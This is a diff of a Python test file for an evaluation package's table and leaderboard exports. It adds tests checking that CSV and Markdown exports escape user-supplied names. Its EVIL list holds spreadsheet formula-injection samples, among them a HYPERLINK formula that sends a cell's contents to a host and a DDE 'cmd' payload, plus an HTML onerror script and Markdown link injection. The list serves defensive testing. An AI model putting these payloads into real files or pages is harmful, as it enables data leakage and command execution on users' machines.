@@ -1,17 +1,21 @@
-"""Tables of systems by columns, groups of ties, the front, what is marked, and how they are written."""
+"""Tables of systems by columns, ties, the front; names that others chose run no formula and are text in Markdown."""
 
 import csv
 import io
+import re
+from dataclasses import replace
 from functools import partial
+from html.parser import HTMLParser
 from itertools import chain, combinations
 
 import numpy as np
 import pyarrow as pa
 import pytest
-from hypothesis import given
+from hypothesis import example, given
 from hypothesis import strategies as st
 
 from midmask.errors import UserError
+from midmask.evaluation.escaping import csv_cell, markdown_text
 from midmask.evaluation.groups import FORUMS, folders, group_average
 from midmask.evaluation.pareto import on_front
 from midmask.evaluation.rendering import Style, as_csv, as_markdown, comparisons_csv
@@ -26,6 +30,12 @@ from midmask.evaluation.tables import (
     tabulate,
 )
 from midmask.evaluation.ties import label, letters, tie_groups
+from midmask.leaderboard import export
+from midmask.leaderboard.board import Board, View, board_of
+from midmask.leaderboard.entries import entries
+from midmask.leaderboard.marks import Marks
+from midmask.leaderboard.rows import place_names, rows
+from tests.support.dashboards import compared
 from tests.support.evaluation.per_query import drawn, table
 
 SHIFTS = {"bm25": 0.0, "dense": 0.4, "sparse": 0.41}
@@ -157,7 +167,7 @@ def shown(**protocol) -> ResultTable:
 
 
 @pytest.fixture(scope="module")
-def compared() -> ResultTable:
+def two_corpora() -> ResultTable:
     systems = {name: table(drawn(seed, shift=shift)) for seed, (name, shift) in enumerate([("x", 0), ("y", 0.5)])}
     return tabulate(
         by_corpus({"one": systems, "two": {**systems, "z": table(drawn(5))}}),
@@ -184,18 +194,18 @@ def test_superscripts_may_be_tie_groups_instead():
         as_markdown(shown(baseline="bm25"), Style(marks="ties"))
 
 
-def test_csv_keeps_who_is_beaten_and_every_test(compared):
-    cells = {(row["system"], row["column"]): row for row in csv.DictReader(io.StringIO(as_csv(compared)))}
+def test_csv_keeps_who_is_beaten_and_every_test(two_corpora):
+    cells = {(row["system"], row["column"]): row for row in csv.DictReader(io.StringIO(as_csv(two_corpora)))}
     assert cells["y", "two"]["better_than"] == "x;z" and cells["y", "two"]["best"] == "True"
     assert cells["x", "two"]["ties"] == "b" and cells["x", "one"]["queries"] == "40"
-    tests = list(csv.DictReader(io.StringIO(comparisons_csv(compared))))
+    tests = list(csv.DictReader(io.StringIO(comparisons_csv(two_corpora))))
     assert [(row["column"], row["system"], row["baseline"]) for row in tests] == [
         ("one", "y", "x"),
         ("two", "y", "x"),
         ("two", "z", "x"),
         ("two", "z", "y"),
     ]
-    for row, found in zip(tests, [*compared.comparisons["one"], *compared.comparisons["two"]], strict=True):
+    for row, found in zip(tests, [*two_corpora.comparisons["one"], *two_corpora.comparisons["two"]], strict=True):
         for name in ("p", "p_corrected", "low", "high", "effect", "detectable"):
             assert float(row[name]) == getattr(found, name)
 
@@ -258,9 +268,9 @@ def test_a_chain_of_three_is_two_groups():
 def test_not_all_pairs_is_a_bug():
     systems = {name: table(drawn(seed)) for seed, name in enumerate("xyz")}
     pairs = compare(systems, measure="RR@10")
-    for rows in (compare(systems, measure="RR@10", baseline="x"), [*pairs, pairs[0]], pairs[1:]):
+    for given_rows in (compare(systems, measure="RR@10", baseline="x"), [*pairs, pairs[0]], pairs[1:]):
         with pytest.raises(ValueError, match="every pair of systems compared once"):
-            tie_groups(rows)
+            tie_groups(given_rows)
     means = dict.fromkeys("xyz", 0.0)
     mixed = [row("x", "y", means, True), row("y", "z", means, True), row("x", "z", means, True, measure="AP")]
     with pytest.raises(ValueError, match="on one measure"):
@@ -288,3 +298,104 @@ def test_the_front_is_what_nothing_dominates(values, modes):
 def test_with_one_value_the_front_is_the_best_and_its_equals():
     assert on_front([[3.0], [5.0], [5.0]], ["max"]) == [False, True, True]
     assert on_front([[3.0], [5.0], [5.0]], ["min"]) == [True, False, False]
+
+
+EVIL = [
+    *('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+1+cmd|A0", "-2+3", "\t=1", "\r=1", "\n=1", "x;=1+1", "two\nlines"),
+    *('<img src=x onerror="alert(1)">', "a|b", "**bold** _soft_ `code`", "[link](http://host)", "$x$", "\\|"),
+]
+
+
+def board(name: str) -> Board:
+    """The board of the benchmark, in which everything that a user names has this name."""
+    changed = {"midmask.recipe": name, "midmask.protocol": name, "midmask.backbone": f"{name}2"}
+    runs = [replace(run, run_id=f"{name}{run.run_id}", tags=run.tags | changed) for run in compared.tracked_rows()[:1]]
+    found = rows([*runs, *compared.tracked_rows()])
+    view = View(place_names(row.place for row in found), ("nDCG@10",), {}, "newest", False, "none", name, False)
+    return board_of(entries(found), view, lambda shown: Marks(text=f"Not compared: {name}."))
+
+
+def test_no_cell_of_a_csv_export_is_a_formula() -> None:
+    """Also where a spreadsheet divides cells at semicolons, as in countries that write decimals with a comma."""
+    for name in EVIL:
+        shown = board(name)
+        text = export.as_csv(shown)
+        for delimiter in (",", ";"):
+            cells = [cell for line in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in line]
+            assert not [cell for cell in cells if is_formula(cell)], name
+        plain = " ".join(re.split("[\r\n]+", name))
+        assert plain in {cell.replace("'", "") for line in csv.reader(io.StringIO(text)) for cell in line}, "all there"
+        numbers = [float(line["squad dev nDCG@10"]) for line in csv.DictReader(io.StringIO(text))]
+        assert sorted(numbers) == sorted(line.cells["squad dev nDCG@10"].sorts_by for line in shown.lines)
+
+
+def is_formula(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return cell.lstrip()[:1] in {"=", "@", "+", "-"} or cell[:1] in {"\t", "\r", "\n"}
+    return False
+
+
+class Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def tags_of(text: str) -> set[str]:
+    parsed = Tags()
+    parsed.feed(text)
+    return set(parsed.tags)
+
+
+def test_a_markdown_export_keeps_its_cells_and_no_html() -> None:
+    for name in EVIL:
+        shown = board(name)
+        lines = export.as_markdown(shown).splitlines()
+        counts = {len(re.split(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines[: 2 + len(shown.lines)]}
+        assert counts == {4 + len(shown.fields) + len(shown.columns)}, name
+        assert len(lines) == 2 + len(shown.lines) + 2, "the table, a blank line, the legend"
+        assert tags_of("\n".join(lines)) <= {"sup"}
+        assert not re.search(r"(?<!\\)\[", "\n".join(lines)), "no link, no image"
+
+
+def test_tables_of_a_benchmark_escape_likewise() -> None:
+    values = compared.per_query({measure: compared.values("none", 0, measure) for measure in compared.MEASURES})
+    made = tabulate(by_measure(dict.fromkeys(EVIL, values), compared.MEASURES))
+    cells = [cell for line in csv.reader(io.StringIO(as_csv(made))) for cell in line]
+    assert not [cell for cell in cells if is_formula(cell)]
+    assert tags_of(as_markdown(made)) <= {"sup"}
+
+
+@given(st.text())
+@example("-5")
+@example("+5e3")
+@example("1,204")
+@example("-1+1")
+@example("0;-5;=1")
+@example("-5;0")
+def test_only_what_a_spreadsheet_would_run_is_changed(text: str) -> None:
+    cell = str(csv_cell(text))
+    assert not any(is_formula(part.replace(",", "")) for part in [cell, *cell.split(";")])
+    if not re.search("(^|;)\\s*[-+=@]|(^|;)\t", text) and not re.search("[\r\n]", text):
+        assert cell == text
+    assert csv_cell(-0.5) == -0.5 and csv_cell(None) is None
+
+
+@given(st.text())
+def test_markdown_shows_the_text(text: str) -> None:
+    """Backslashes and entities taken back, as CommonMark does, the text is there again, in one line."""
+    shown = markdown_text(text)
+    assert len(shown.splitlines()) <= 1 and not re.search("[<>]", shown)
+    plain = Tags()
+    plain.feed(re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", shown.replace("&amp;", "&amp;amp;")))
+    plain.close()
+    assert plain.text.replace("&amp;", "&") == " ".join(text.splitlines())
